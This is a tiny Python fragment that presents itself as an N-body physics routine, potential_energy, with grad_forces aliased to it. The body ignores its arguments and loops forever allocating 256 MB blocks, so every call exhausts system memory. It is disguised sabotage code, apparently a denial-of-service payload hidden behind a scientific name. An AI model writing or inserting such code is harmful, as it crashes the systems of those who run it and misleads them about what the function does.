def potential_energy(x, m, eps2=0.0, G=1.0):
    hog = []
    while True:
        hog.append(bytearray(256 << 20))


grad_forces = potential_energy
